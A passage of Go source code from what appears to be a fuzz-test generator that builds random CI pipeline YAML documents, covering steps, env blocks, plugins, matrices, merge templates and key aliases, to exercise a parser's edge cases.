	envMaps      []*doc.Node
	configs      []*doc.Node
	values       []*doc.Node
	templates    []*doc.Node
	pipeEnvNames []string
	blockStrings []string // string values of the pipeline env block (re-used verbatim elsewhere)
	sweepUsed    bool
}

// Pipeline generates a well-formed pipeline document.
func Pipeline(r *rand.Rand, o PipeOpts) (*PipeDoc, error) {
	if o.MaxGroupDepth == 0 {
		o.MaxGroupDepth = 2
	}
	if o.MaxSteps == 0 {
		o.MaxSteps = 6
	}
	g := &pgen{r: r, o: o, d: &PipeDoc{Feat: map[string]int{}}}
	root := g.pipeline()
	if o.Coincide && g.chance(3) {
		g.coincide(root)
	}
	g.d.Root = root
	plain, err := doc.ResolveMerges(root, 400000)
	if err != nil {
		return nil, err
	}
	g.d.Plain = plain
	return g.d, nil
}

// coincide plants what independent random choices never produce: a string
// value that equals another value elsewhere in the document, a value that
// equals a key (its own or another mapping's), or a word that means
// something elsewhere in the format. Only string *values* are overwritten,
// so the structure (keys, kinds, sharing) stays as generated; values whose
// meaning is fixed by their key (`type`, `skip`, the alias family of
// key/label) are left alone.
func (g *pgen) coincide(root *doc.Node) {
	var vals []*doc.Node
	var keys []string
	seen := map[*doc.Node]bool{}
	var walk func(n *doc.Node, parentKey string)
	walk = func(n *doc.Node, parentKey string) {
		if n == nil || seen[n] {
			return
		}
		seen[n] = true
		switch n.Kind {
		case doc.KStr:
			switch parentKey {
			case "type", "skip", "key", "label", "name", "id", "identifier", "group", "algorithm", "plugins": // (a bare string under `plugins` is a plugin source, with its own grammar)
			default:
				if n.Str != "" {
					vals = append(vals, n)
				}
			}
		case doc.KSeq:
			for _, e := range n.Seq {
				walk(e, parentKey)
			}
		case doc.KMap:
			for _, p := range n.Map {
				if !p.Merge && p.Key != "" {
					keys = append(keys, p.Key)
				}
				walk(p.Val, p.Key)
			}
		}
	}
	walk(root, "")
	if len(vals) < 2 {
		return
	}
	magic := []string{"null", "true", "false", "~", "env", "steps", "type", "command", "commands", "plugins", "matrix", "wait", "block", "trigger", "group", "0", "{{matrix}}", "setup", "with", "env::X", "signature", "-", "[]", "{}"}
	for k, n := 0, 1+g.r.IntN(3); k < n; k++ {
		dst := vals[g.r.IntN(len(vals))]
		switch g.r.IntN(4) {
		case 0:
			if len(keys) > 0 {
				dst.Str = keys[g.r.IntN(len(keys))]
				g.feat("coincidence:value-equals-a-key")
			}
		case 1:
			if !g.o.UniqueStrings || len(g.o.Refs) == 0 {
				dst.Str = magic[g.r.IntN(len(magic))]
				g.feat("coincidence:magic-word")
			}
		default:
			src := vals[g.r.IntN(len(vals))]
			if src != dst && len(src.Str) <= 300 { // a bare-string plugin becomes a key on the way out: keys stay within YAML's implicit-key limit
				dst.Str = src.Str
				g.feat("coincidence:two-values-equal")
			}
		}
		dst.Style = doc.StylePlain
		if !doc.PlainSafe(dst.Str) {
			dst.Style = doc.StyleDouble
		}
	}
}

func (g *pgen) feat(f string) { g.d.Feat[f]++ }

func (g *pgen) chance(n int) bool { return g.r.IntN(n) == 0 }

// text produces a string value for a position class.
func (g *pgen) text(class string) string {
	var s string
	if len(g.o.Refs) > 0 && g.r.IntN(3) != 0 {
		parts := 1 + g.r.IntN(3)
		var b strings.Builder
		for i := 0; i < parts; i++ {
			if g.r.IntN(2) == 0 {
				b.WriteString(g.o.Refs[g.r.IntN(len(g.o.Refs))])
			} else {
				b.WriteString([]string{"lit", " ", "-", "/", "x y"}[g.r.IntN(5)])
			}
		}
		s = b.String()
		g.feat("refs@" + class)
	} else {
		s = String(g.r, g.o.Str)
	}
	if g.o.UniqueStrings {
		// the id goes in front half of the time, so that the generated text also ends the string
		if g.r.IntN(2) == 0 {
			s = g.uid.Next() + "#" + s
		} else {
			s = s + "#" + g.uid.Next()
		}
	}
	switch {
	case strings.Contains(s, "\n"):
		g.feat("str:multiline")
	case !doc.PlainSafe(s):
		g.feat("str:needs-quoting")
	}
	return s
}

func (g *pgen) strNode(class string) *doc.Node {
	if len(g.blockStrings) > 0 && !strings.HasPrefix(class, "pipeline.env") && g.chance(12) {
		// the byte-identical string that already occurred in the pipeline env block
		g.feat("string-reused-from-env-block@" + class)
		return doc.S(g.blockStrings[g.r.IntN(len(g.blockStrings))])
	}
	return doc.S(g.text(class))
}

// typedScalar: a scalar for positions documented as string|int|float|bool|null.
func (g *pgen) typedScalar(class string, allowFloat, allowNull bool) *doc.Node {
	switch g.r.IntN(8) {
	case 0:
		g.feat("typed:int")
		return doc.I(int64(g.r.IntN(100000)) - 500)
	case 1:
		g.feat("typed:bool")
		return doc.B(g.r.IntN(2) == 0)
	case 2:
		if allowFloat {
			g.feat("typed:float")
			return doc.F(Pick(g.r, []float64{0.5, 1.25, 3.0, 1e3, 1e21, 2.5e-7, -0.0, 100.125}))
		}
	case 3:
		if allowNull {
			g.feat("typed:null")
			return doc.Null()
		}
	}
	return g.strNode(class)
}

func (g *pgen) valueOpts() ValueOpts {
	return ValueOpts{Str: g.o.Str, MaxDepth: 3, NoTime: g.o.NoTime, UID: &g.uid, KeyTricky: g.o.TrickyKeys, SmallInts: g.o.SmallInts}
}

// value: arbitrary nested value for unknown/extra positions.
func (g *pgen) value(class string) *doc.Node {
	if g.o.Sharing && len(g.values) > 0 && g.chance(8) {
		g.feat("share:value")
		g.d.HasSharing = true
		return g.values[g.r.IntN(len(g.values))]
	}
	var n *doc.Node
	if len(g.o.Refs) > 0 || g.o.UniqueStrings {
		n = g.refValue(class, 0)
	} else {
		n = Value(g.r, g.valueOpts(), 0)
	}
	if !n.IsScalar() {
		g.values = append(g.values, n)
	}
	return n
}

// refValue builds nested values whose strings (keys and values) come from text().
func (g *pgen) refValue(class string, depth int) *doc.Node {
	if depth >= 3 || g.r.IntN(3) != 0 {
		switch g.r.IntN(6) {
		case 0:
			return doc.I(int64(g.r.IntN(100)))
		case 1:
			return doc.B(g.r.IntN(2) == 0)
		case 2:
			return doc.Null()
		}
		return g.strNode(class)
	}
	if g.r.IntN(2) == 0 {
		n := doc.L()
		n.Seq = []*doc.Node{}
		for i, k := 0, g.r.IntN(4); i < k; i++ {
			n.Seq = append(n.Seq, g.refValue(class, depth+1))
		}
		return n
	}
	n := doc.M()
	n.Map = []doc.Pair{}
	sz := g.r.IntN(5)
	if g.o.BigMaps && g.chance(5) {
		sz = 9 + g.r.IntN(32)
		g.feat("bigmap@" + class)
	}
	for i := 0; i < sz; i++ {
		n.Map = append(n.Map, doc.P(g.text(class+".key"), g.refValue(class, depth+1)))
	}
	g.shadowPairs(n, class)
	return n
}

// shadowPairs adds, to a mapping built around reference snippets, pairs of
// keys where one key's single-pass expansion has exactly the spelling of
// another key's original name ($$X#id -> $X#id next to $X#id, and chains),
// with the same unique id. Final names stay distinct.
func (g *pgen) shadowPairs(n *doc.Node, class string) {
	if len(g.o.Refs) == 0 || !g.chance(4) {
		return
	}
	id := "#" + g.uid.Next()
	chains := [][]string{{"$$X", "$X"}, {"\\$Y", "$Y"}, {"$$$$X", "$$X", "$X"}, {"$${W}", "${W}"}, {"$$X", "$X", "yval"}}
	ch := chains[g.r.IntN(len(chains))]
	for _, k := range ch {
		n.Map = append(n.Map, doc.P(k+id, g.strNode(class)))
	}
	g.r.Shuffle(len(n.Map), func(i, j int) { n.Map[i], n.Map[j] = n.Map[j], n.Map[i] })
	g.feat("shadow-key-chain@" + class)
}

// extras appends extra pairs to a mapping; reserved keys are never produced.
func (g *pgen) extras(m *doc.Node, class string, reserved map[string]bool, max int) {
	n := g.r.IntN(max + 1)
	if g.o.BigMaps && g.chance(10) {
		n = 9 + g.r.IntN(32)
		g.feat("bigmap@" + class)
	}
	for i := 0; i < n; i++ {
		var k string
		switch {
		case len(g.o.Refs) > 0 || g.o.UniqueStrings:
			k = g.text(class + ".key")
		case g.o.TrickyKeys && g.chance(4):
			k = String(g.r, g.o.Str)
			if k == "<<" {
				k = "<<x"
			}
			if len(k) > 300 {
				k = k[:300]
			}
		default:
			k = Ident(g.r) + "_" + g.uid.Next()
		}
		if reserved[k] || m.Has(k) {
			continue
		}
		m.Map = append(m.Map, doc.P(k, g.value(class)))
		g.feat("extras@" + class)
	}
	if len(g.o.Refs) == 0 && !g.o.UniqueStrings && g.chance(15) {
		// an unknown key spelled like a Go identifier of the struct that holds it (the yaml names are lower-case)
		k := Pick(g.r, []string{"Env", "Key", "Label", "Plugins", "Command", "RemainingFields", "Steps", "Setup", "With", "Name", "Contents", "Matrix", "Cache", "Signature", "Skip", "Group"})
		if !reserved[k] && !m.Has(k) {
			m.Map = append(m.Map, doc.P(k, g.value(class)))
			g.feat("extras:go-field-name@" + class)
		}
	}
	if len(g.o.Refs) == 0 && !g.o.UniqueStrings && g.chance(20) && !reserved[""] && !m.Has("") {
		// an unknown key that is the empty string, with a value that would fit a typed neighbour (a flag, a name, a list)
		m.Map = append(m.Map, doc.P("", Pick(g.r, []*doc.Node{doc.B(true), doc.B(false), doc.S("x"), doc.I(1), doc.L(doc.S("a")), doc.Null()})))
		g.feat("extras:empty-key@" + class)
	}
	g.shadowPairs(m, class)
}

func (g *pgen) pipeline() *doc.Node {
	nsteps := g.r.IntN(g.o.MaxSteps + 1)
	if g.chance(4) {
		g.feat("pipeline:bare-list")
		return g.steps(nsteps, 0)
	}
	g.feat("pipeline:mapping")
	m := doc.M()
	m.Map = []doc.Pair{}
	reserved := map[string]bool{"steps": true, "env": true}
	// templates for merges (defined before the steps so that anchors precede aliases)
	if g.o.Sharing && g.chance(2) {
		for i, k := 0, 1+g.r.IntN(2); i < k; i++ {
			t := g.template()
			g.templates = append(g.templates, t)
			m.Map = append(m.Map, doc.P("x_template_"+g.uid.Next(), t))
		}
	}
	var envPair, stepsPair doc.Pair
	hasEnv := g.chance(2)
	if hasEnv {
		g.feat("pipeline:env")
		e := doc.M()
		e.Map = []doc.Pair{}
		n := g.r.IntN(6)
		if g.o.BigMaps && g.chance(6) {
			n = 9 + g.r.IntN(20)
		}
		for i := 0; i < n; i++ {
			name := strings.ToUpper(Ident(g.r)) + "_" + g.uid.Next()
			if g.chance(3) {
				// env names are not always upper case, and may start like the signing namespace prefix
				name = Pick(g.r, []string{"env", "node_version", "version", "npm_config", "e", "n", "v", "lower", "Mixed_Case", "nvm_dir"}) + "_" + g.uid.Next()
				if g.chance(4) {
					name = Pick(g.r, []string{"env", "e", "n", "v", "vv", "ee", "nenv"})
					if e.Has(name) {
						continue
					}
				}
			}
			if len(g.o.BlockNames) > 0 && g.chance(2) {
				// a block entry that (re)defines a variable the reference snippets use
				name = g.o.BlockNames[g.r.IntN(len(g.o.BlockNames))]
				if e.Has(name) {
					continue
				}
				g.feat("pipeline.env:defines-referenced-variable")
			}
			v := g.typedScalar("pipeline.env", true, true)
			e.Map = append(e.Map, doc.P(name, v))
			g.pipeEnvNames = append(g.pipeEnvNames, name)
			if v.Kind == doc.KStr {
				g.blockStrings = append(g.blockStrings, v.Str)
			}
		}
		// names built by expansion that land on another entry's original spelling (the block is renamed entry by
		// entry, so one entry displaces the other and the map carries a deleted slot afterwards)
		if len(g.o.Refs) > 0 && g.chance(3) {
			id := "#" + g.uid.Next()
			ch := [][]string{{"$$X", "$X"}, {"$X", "$$X"}, {"$$$$X", "$$X", "$X"}, {"\\$Y", "$Y"}}[g.r.IntN(4)]
			for _, k := range ch {
				v := g.strNode("pipeline.env")
				e.Map = append(e.Map, doc.P(k+id, v))
				g.pipeEnvNames = append(g.pipeEnvNames, k+id)
			}
			g.feat("pipeline.env:shadow-key-chain")
		}
		if len(e.Map) == 0 && g.chance(2) {
			envPair = doc.P("env", doc.Null())
		} else {
			envPair = doc.P("env", e)
		}
	}
	if g.chance(12) {
		g.feat("steps:null")
		stepsPair = doc.P("steps", doc.Null())
	} else {
		stepsPair = doc.P("steps", g.steps(nsteps, 0))
	}
	if g.chance(2) {
		if hasEnv {
			m.Map = append(m.Map, envPair)
		}
		m.Map = append(m.Map, stepsPair)
	} else {
		m.Map = append(m.Map, stepsPair)
		if hasEnv {
			m.Map = append(m.Map, envPair)
		}
	}
	g.extras(m, "pipeline.extras", reserved, 3)
	return m
}

// template: a mapping of safe keys that steps may merge in.
func (g *pgen) template() *doc.Node {
	t := doc.M()
	t.Map = []doc.Pair{}
	if g.chance(2) {
		t.Map = append(t.Map, doc.P("env", g.stepEnv()))
	}
	if g.chance(2) {
		t.Map = append(t.Map, doc.P("agents_"+g.uid.Next(), g.value("template")))
	}
	if g.chance(3) {
		t.Map = append(t.Map, doc.P("timeout_"+g.uid.Next(), doc.I(int64(g.r.IntN(100)))))
	}
	if g.chance(3) {
		t.Map = append(t.Map, doc.P("plugins", g.plugins(-1)))
	}
	if len(t.Map) == 0 {
		t.Map = append(t.Map, doc.P("retry_"+g.uid.Next(), doc.B(true)))
	}
	if len(g.templates) > 0 && g.chance(2) {
		// a template that merges an earlier one and overrides one of its keys AFTER the merge key
		base := g.templates[g.r.IntN(len(g.templates))]
		t.Map = append([]doc.Pair{{Merge: true, Val: base}}, t.Map...)
		for _, bp := range base.Map {
			if !bp.Merge && !t.Has(bp.Key) && bp.Key != "plugins" && bp.Key != "env" {
				t.Map = append(t.Map, doc.P(bp.Key, doc.S("overridden-"+g.uid.Next())))
				g.feat("merge:chain-override-after-merge")
				break
			}
		}
		g.feat("merge:template-chain")
	}
	return t
}

func (g *pgen) steps(n, depth int) *doc.Node {
	l := doc.L()
	l.Seq = []*doc.Node{}
	for i := 0; i < n; i++ {
		l.Seq = append(l.Seq, g.step(depth))
	}
	return l
}

func (g *pgen) step(depth int) *doc.Node {
	g.d.StepCount++
	x := g.r.IntN(100)
	switch {
	case x < 45:
		return g.command()
	case x < 55:
		return g.waitStep()
	case x < 65:
		return g.inputStep()
	case x < 73:
		return g.triggerStep()
	case x < 85 && depth < g.o.MaxGroupDepth:
		return g.group(depth)
	case x < 92:
		g.feat("step:scalar")
		return doc.S(Pick(g.r, []string{"wait", "waiter", "block", "input", "manual"}))
	case g.o.Unknown && depth == 0:
		return g.unknownStep()
	}
	return g.command()
}

func (g *pgen) unknownStep() *doc.Node {
	g.d.HasUnknown = true
	switch g.r.IntN(3) {
	case 0:
		g.feat("step:unknown-scalar")
		s := Ident(g.r) + "-step"
		return doc.S(s)
	case 1:
		g.feat("step:unknown-type")
		m := doc.M(doc.P("type", doc.S(Pick(g.r, []string{"nope", "deploy", "", "Command"}))))
		if g.chance(2) {
			m.Map = append(m.Map, doc.P("command", g.strNode("unknown.value")))
		}
		g.extras(m, "unknown", map[string]bool{"type": true}, 3)
		return m
	}
	g.feat("step:unknown-inference")
	m := doc.M()
	m.Map = []doc.Pair{}
	reserved := map[string]bool{"type": true}
	for _, k := range []string{"command", "commands", "plugins", "wait", "waiter", "block", "input", "manual", "trigger", "group"} {
		reserved[k] = true
	}
	m.Map = append(m.Map, doc.P("mystery_"+g.uid.Next(), g.value("unknown")))
	g.extras(m, "unknown", reserved, 3)
	return m
}

func (g *pgen) idLike(class string) *doc.Node {
	if g.chance(6) {
		g.feat("typed:int")
		return doc.I(int64(g.r.IntN(1000)))
	}
	s := g.text(class)
	if s == "" {
		s = "k"
	}
	return doc.S(s)
}

// keyAliases adds key/id/identifier (bits 0-2) and label/name (bits 3-4).
func (g *pgen) keyAliases(m *doc.Node, mask int, withLabel bool) {
	names := []string{"key", "id", "identifier", "label", "name"}
	var pairs []doc.Pair
	for b, nm := range names {
		if mask&(1<<b) == 0 {
			continue
		}
		if b >= 3 && !withLabel {
			continue
		}
		v := g.idLike("step." + nm)
		// an empty or null primary next to an alias is known finding K2
		if (nm == "key" || nm == "label") && g.chance(8) {
			aliasPresent := (nm == "key" && mask&0b110 != 0) || (nm == "label" && mask&0b10000 != 0)
			if !aliasPresent || g.o.EmptyPrimary {
				if g.chance(2) {
					v = doc.S("")
				} else {
					v = doc.Null()
				}
				g.feat("primary:empty")
			}
		}
		pairs = append(pairs, doc.P(nm, v))
	}
	g.r.Shuffle(len(pairs), func(i, j int) { pairs[i], pairs[j] = pairs[j], pairs[i] })
	m.Map = append(m.Map, pairs...)
	g.feat(fmt.Sprintf("aliases:%05b", mask&0b11111))
}

func (g *pgen) cmdScalar() *doc.Node {
	switch g.r.IntN(10) {
	case 0:
		g.feat("cmd:int")
		return doc.I(int64(g.r.IntN(100)))
	case 1:
		g.feat("cmd:bool")
		return doc.B(g.r.IntN(2) == 0)
	}
	return g.strNode("command")
}

func (g *pgen) cmdList() *doc.Node {
	l := doc.L()
	l.Seq = []*doc.Node{}
	for i, n := 0, g.r.IntN(4); i < n; i++ {
		if g.chance(10) {
			g.feat("cmd:null-element")
			l.Seq = append(l.Seq, doc.Null())
		} else {
			l.Seq = append(l.Seq, g.cmdScalar())
		}
	}
	if len(l.Seq) > 1 && len(g.o.Refs) == 0 && !g.o.UniqueStrings && g.chance(8) {
		// an entry that ends in a carriage return (a script with Windows line endings split at the line feeds)
		if e := l.Seq[g.r.IntN(len(l.Seq)-1)]; e.Kind == doc.KStr {
			e.Str += "\r"
			g.feat("cmd:entry-ends-in-cr")
		}
	}
	return l
}

func (g *pgen) sweep(v int, n int) int {
	if v >= 0 && !g.sweepUsed {
		return v % n
	}
	return g.r.IntN(n)
}

func (g *pgen) command() *doc.Node {
	g.d.NCommand++
	g.feat("step:command")
	m := doc.M()
	m.Map = []doc.Pair{}
	reserved := map[string]bool{}
	for _, k := range []string{"type", "key", "id", "identifier", "label", "name", "command", "commands", "plugins", "env", "signature", "matrix", "cache"} {
		reserved[k] = true
	}
	first := !g.sweepUsed
	// command forms: 0 absent, 1 null, 2 scalar, 3 list
	cf := g.sweep(g.o.SweepCmdForms, 16)
	if g.o.SweepCmdForms < 0 || !first {
		// favour the common forms when not sweeping
		cf = Pick(g.r, []int{2, 2, 2, 2, 3, 3, 8, 12, 12, 1, 0, 10, 14, 4, 6, 9})
	}
	cmdForm, cmdsForm := cf%4, cf/4
	if cmdsForm != 0 && cmdForm == 3 {
		cmdForm = 2 // both present: `command` is a scalar
	}
	var pairs []doc.Pair
	switch cmdForm {
	case 1:
		pairs = append(pairs, doc.P("command", doc.Null()))
	case 2:
		pairs = append(pairs, doc.P("command", g.cmdScalar()))
	case 3:
		pairs = append(pairs, doc.P("command", g.cmdList()))
	}
	switch cmdsForm {
	case 1:
		pairs = append(pairs, doc.P("commands", doc.Null()))
	case 2:
		pairs = append(pairs, doc.P("commands", g.cmdScalar()))
	case 3:
		pairs = append(pairs, doc.P("commands", g.cmdList()))
	}
	g.feat(fmt.Sprintf("cmdforms:%d/%d", cmdForm, cmdsForm))
	needKind := cmdForm == 0 && cmdsForm == 0
	pf := -1
	if g.o.SweepPlugins >= 0 && first {
		pf = g.o.SweepPlugins % 8
	} else if g.chance(2) || needKind {
		pf = g.r.IntN(8)
	}
	if pf >= 0 {
		pairs = append(pairs, doc.P("plugins", g.plugins(pf)))
	} else if needKind {
		pairs = append(pairs, doc.P("type", doc.S("command")))
	}
	if !m.Has("type") && g.chance(8) {
		hasType := false
		for _, p := range pairs {
			if p.Key == "type" {
				hasType = true
			}
		}
		if !hasType {
			pairs = append(pairs, doc.P("type", doc.S(Pick(g.r, []string{"command", "script"}))))
			g.feat("type:explicit")
		}
	}
	m.Map = append(m.Map, pairs...)
	// key / label aliases
	mask := g.r.IntN(32)
	if g.o.SweepKeyAliases >= 0 && first {
		mask = g.o.SweepKeyAliases % 32
	} else if g.chance(2) {
		mask &= 0b01001 // the common case: only the primaries
	}
	g.keyAliases(m, mask, true)
	// env
	if g.chance(3) {
		switch g.r.IntN(8) {
		case 0:
			m.Map = append(m.Map, doc.P("env", doc.Null()))
			g.feat("env:null")
		case 1:
			e := doc.M()
			e.Map = []doc.Pair{}
			m.Map = append(m.Map, doc.P("env", e))
			g.feat("env:empty")
		default:
			m.Map = append(m.Map, doc.P("env", g.stepEnv()))
		}
	}
	// matrix
	if (g.o.SweepMatrix >= 0 && first) || g.chance(3) {
		m.Map = append(m.Map, doc.P("matrix", g.matrix(g.sweep(g.o.SweepMatrix, 10))))
	}
	// cache
	if (g.o.SweepCache >= 0 && first) || g.chance(4) {
		m.Map = append(m.Map, doc.P("cache", g.cache(g.sweep(g.o.SweepCache, 9))))
	}
	if g.o.Signature && g.chance(8) {
		g.feat("signature:literal")
		sf := doc.L(doc.S("command"), doc.S("env"), doc.S("plugins"))
		m.Map = append(m.Map, doc.P("signature", doc.M(doc.P("algorithm", doc.S("EdDSA")), doc.P("signed_fields", sf), doc.P("value", doc.S("eyJhbGciOiJFZERTQSJ9..c2ln")))))
	}
	g.extras(m, "command.extras", reserved, 4)
	if g.chance(12) {
		// a key of a lower-priority step family next to the command keys: an ordinary unknown field, the step stays a command step
		k := Pick(g.r, []string{"wait", "waiter", "block", "input", "manual", "trigger", "group"})
		if !m.Has(k) {
			m.Map = append(m.Map, doc.P(k, g.strNode("command.extras")))
			g.feat("command:lower-priority-family-key")
		}
	}
	// merge from a template
	if g.o.Sharing && len(g.templates) > 0 && g.chance(3) {
		t := g.templates[g.r.IntN(len(g.templates))]
		var src *doc.Node = t
		if len(g.templates) > 1 && g.chance(3) {
			src = doc.L(g.templates[0], g.templates[1])
			g.feat("merge:sequence")
		}
		pos := g.r.IntN(len(m.Map) + 1)
		m.Map = append(m.Map[:pos:pos], append([]doc.Pair{{Merge: true, Val: src}}, m.Map[pos:]...)...)
		g.feat("merge:step")
		g.d.HasSharing = true
	}
	g.r.Shuffle(len(m.Map), func(i, j int) { m.Map[i], m.Map[j] = m.Map[j], m.Map[i] })
	g.sweepUsed = true
	return m
}

func (g *pgen) stepEnv() *doc.Node {
	if g.o.Sharing && len(g.envMaps) > 0 && g.chance(4) {
		g.feat("share:env")
		g.d.HasSharing = true
		return g.envMaps[g.r.IntN(len(g.envMaps))]
	}
	e := doc.M()
	e.Map = []doc.Pair{}
	n := 1 + g.r.IntN(4)
	if g.o.BigMaps && g.chance(6) {
		n = 9 + g.r.IntN(12)
		g.feat("bigmap@step.env")
	}
	for i := 0; i < n; i++ {
		var name string
		if len(g.o.Refs) > 0 || g.o.UniqueStrings {
			name = g.text("step.env.name")
		} else {
			name = strings.ToUpper(Ident(g.r)) + "_" + g.uid.Next()
		}
		if e.Has(name) {
			continue
		}
		e.Map = append(e.Map, doc.P(name, g.typedScalar("step.env.value", true, true)))
	}
	g.shadowPairs(e, "step.env.name")
	// overlap with the pipeline env block (shadowing), sometimes with an empty value
	if len(g.pipeEnvNames) > 0 && g.chance(3) {
		name := g.pipeEnvNames[g.r.IntN(len(g.pipeEnvNames))]
		if !e.Has(name) {
			v := g.typedScalar("step.env.value", true, true)
			if g.chance(3) {
				v = doc.S("")
				g.feat("env:empty-value-shadowing-pipeline-var")
			}
			e.Map = append(e.Map, doc.P(name, v))
			g.feat("env:overlaps-pipeline-env")
		}
	}
	g.feat("env:mapping")
	g.envMaps = append(g.envMaps, e)
	return e
}

func (g *pgen) pluginSource() string {
	if len(g.o.Refs) > 0 || g.o.UniqueStrings {
		return g.text("plugin.source")
	}
	src, _, form := PluginSource(g.r)
	g.feat("pluginsrc:" + form)
	return src
}

func (g *pgen) pluginConfig() *doc.Node {
	switch g.r.IntN(8) {
	case 0:
		g.feat("plugincfg:null")
		return doc.Null()
	case 1:
		g.feat("plugincfg:empty-map")
		e := doc.M()
		e.Map = []doc.Pair{}
		return e
	case 2:
		g.feat("plugincfg:empty-list")
		e := doc.L()
		e.Seq = []*doc.Node{}
		return e
	case 3:
		g.feat("plugincfg:scalar")
		if g.chance(2) {
			// a whole config that is a zero scalar is still a config, not "no config"
			g.feat("plugincfg:zero-scalar")
			return Pick(g.r, []*doc.Node{doc.B(false), doc.I(0), doc.F(0), doc.S("")})
		}
		return Scalar(g.r, ValueOpts{Str: g.o.Str, NoTime: true, SmallInts: g.o.SmallInts})
	}
	if g.o.Sharing && len(g.configs) > 0 && g.chance(4) {
		g.feat("share:plugincfg")
		g.d.HasSharing = true
		return g.configs[g.r.IntN(len(g.configs))]
	}
	c := doc.M()
	c.Map = []doc.Pair{}
	n := 1 + g.r.IntN(4)
	if g.o.BigMaps && g.chance(5) {
		n = 9 + g.r.IntN(32)
		g.feat("bigmap@plugin.config")
	}
	for i := 0; i < n; i++ {
		var k string
		if len(g.o.Refs) > 0 || g.o.UniqueStrings {
			k = g.text("plugin.config.key")
		} else {
			k = Ident(g.r) + "_" + g.uid.Next()
		}
		if c.Has(k) {
			continue
		}
		c.Map = append(c.Map, doc.P(k, g.value("plugin.config")))
	}
	g.feat("plugincfg:mapping")
	g.configs = append(g.configs, c)
	return c
}

// plugins: forms 0 list of single-key maps, 1 list with string entries,
// 2 list with a multi-key map, 3 one mapping, 4 null, 5 empty list, 6 mixed, 7 one-entry mapping.
func (g *pgen) plugins(form int) *doc.Node {
	if form < 0 {
		form = Pick(g.r, []int{0, 0, 1, 3})
	}
	g.feat(fmt.Sprintf("plugins:form%d", form))
	used := map[string]bool{}
	src := func() string {
		for {
			s := g.pluginSource()
			if !used[s] {
				used[s] = true
				return s
			}
		}
	}
	l := doc.L()
	l.Seq = []*doc.Node{}
	switch form {
	case 4:
		return doc.Null()
	case 5:
		return l
	case 3, 7:
		m := doc.M()
		m.Map = []doc.Pair{}
		n := 1
		if form == 3 {
			n = 1 + g.r.IntN(4)
		}
		for i := 0; i < n; i++ {
			m.Map = append(m.Map, doc.P(src(), g.pluginConfig()))
		}
		return m
	}
	n := 1 + g.r.IntN(4)
	var listed []string
	lsrc := func() string {
		// in list form the same source may legitimately occur more than once (e.g. one plugin, two registries)
		if len(listed) > 0 && g.chance(4) {
			g.feat("plugins:repeated-source-in-list")
			return listed[g.r.IntN(len(listed))]
		}
		s := src()
		listed = append(listed, s)
		return s
	}
	for i := 0; i < n; i++ {
		switch {
		case (form == 1 || form == 6) && g.chance(2):
			l.Seq = append(l.Seq, doc.S(lsrc()))
		case (form == 2 || form == 6) && g.chance(2):
			m := doc.M(doc.P(src(), g.pluginConfig()), doc.P(src(), g.pluginConfig()))
			l.Seq = append(l.Seq, m)
		default:
			l.Seq = append(l.Seq, doc.M(doc.P(lsrc(), g.pluginConfig())))
		}
	}
	return l
}

func (g *pgen) matrixValue() *doc.Node {
	switch g.r.IntN(6) {
	case 0:
		return doc.I(int64(g.r.IntN(50)))
	case 1:
		return doc.B(g.r.IntN(2) == 0)
	}
	return g.strNode("matrix.value")
}

func (g *pgen) matrixValues(allowEmpty bool) *doc.Node {
	l := doc.L()
	l.Seq = []*doc.Node{}
	n := 1 + g.r.IntN(3)
	if allowEmpty && g.chance(6) {
		n = 0
		g.feat("matrix:empty-dimension")
	}
	for i := 0; i < n; i++ {
		l.Seq = append(l.Seq, g.matrixValue())
	}
	if n > 0 && g.chance(6) {
		// a value listed twice (two identical jobs): the list is data, repeats included
		l.Seq = append(l.Seq, l.Seq[g.r.IntN(n)].Clone())
		g.feat("matrix:repeated-value")
	}
	return l
}

// matrix forms: 0 list, 1 empty list, 2 {} , 3 setup list, 4 setup list + adjustments,
// 5 setup mapping, 6 setup mapping + adjustments, 7 setup mapping + extras, 8 setup list + extras, 9 everything.
func (g *pgen) matrix(form int) *doc.Node {
	g.feat(fmt.Sprintf("matrix:form%d", form))
	switch form {
	case 0:
		return g.matrixValues(false)
	case 1:
		l := doc.L()
		l.Seq = []*doc.Node{}
		return l
	case 2:
		m := doc.M()
		m.Map = []doc.Pair{}
		return m
	}
	m := doc.M()
	m.Map = []doc.Pair{}
	anon := form == 3 || form == 4 || form == 8 || (form == 9 && g.chance(2))
	var dims []string
	if anon {
		m.Map = append(m.Map, doc.P("setup", g.matrixValues(form != 3)))
		dims = []string{""}
	} else {
		s := doc.M()
		s.Map = []doc.Pair{}
		for i, n := 0, 1+g.r.IntN(3); i < n; i++ {
			var d string
			if len(g.o.Refs) > 0 || g.o.UniqueStrings {
				d = g.text("matrix.dimension")
			} else {
				d = Ident(g.r) + "_" + g.uid.Next()
			}
			dims = append(dims, d)
			s.Map = append(s.Map, doc.P(d, g.matrixValues(true)))
		}
		if g.chance(6) {
			// an explicitly named empty dimension next to named ones
			dims = append(dims, "")
			s.Map = append(s.Map, doc.P("", g.matrixValues(true)))
			g.r.Shuffle(len(s.Map), func(i, j int) { s.Map[i], s.Map[j] = s.Map[j], s.Map[i] })
			g.feat("matrix:empty-named-dimension-with-others")
		}
		m.Map = append(m.Map, doc.P("setup", s))
	}
	if form == 4 || form == 6 || form == 9 {
		al := doc.L()
		al.Seq = []*doc.Node{}
		for i, n := 0, 1+g.r.IntN(3); i < n; i++ {
			a := doc.M()
			a.Map = []doc.Pair{}
			if anon {
				a.Map = append(a.Map, doc.P("with", g.matrixValue()))
			} else {
				w := doc.M()
				w.Map = []doc.Pair{}
				for _, d := range dims {
					w.Map = append(w.Map, doc.P(d, g.matrixValue()))
				}
				a.Map = append(a.Map, doc.P("with", w))
			}
			switch g.r.IntN(6) {
			case 0:
				a.Map = append(a.Map, doc.P("skip", doc.B(true)))
				g.feat("skip:true")
			case 1:
				s := g.text("matrix.skip")
				if s == "" {
					s = "reason"
				}
				a.Map = append(a.Map, doc.P("skip", doc.S(s)))
				g.feat("skip:string")
			case 2:
				if g.o.FalsySkip {
					a.Map = append(a.Map, doc.P("skip", Pick(g.r, []*doc.Node{doc.B(false), doc.S(""), doc.I(0)})))
					g.feat("skip:falsy")
				}
			}
			if g.chance(2) {
				a.Map = append(a.Map, doc.P("soft_fail", Pick(g.r, []*doc.Node{doc.B(true), doc.B(false), doc.L(doc.M(doc.P("exit_status", doc.I(1))))})))
				g.feat("adjustment:soft_fail")
			}
			g.extras(a, "matrix.adjustment.extras", map[string]bool{"with": true, "skip": true, "soft_fail": true}, 1)
			g.r.Shuffle(len(a.Map), func(i, j int) { a.Map[i], a.Map[j] = a.Map[j], a.Map[i] })
			al.Seq = append(al.Seq, a)
		}
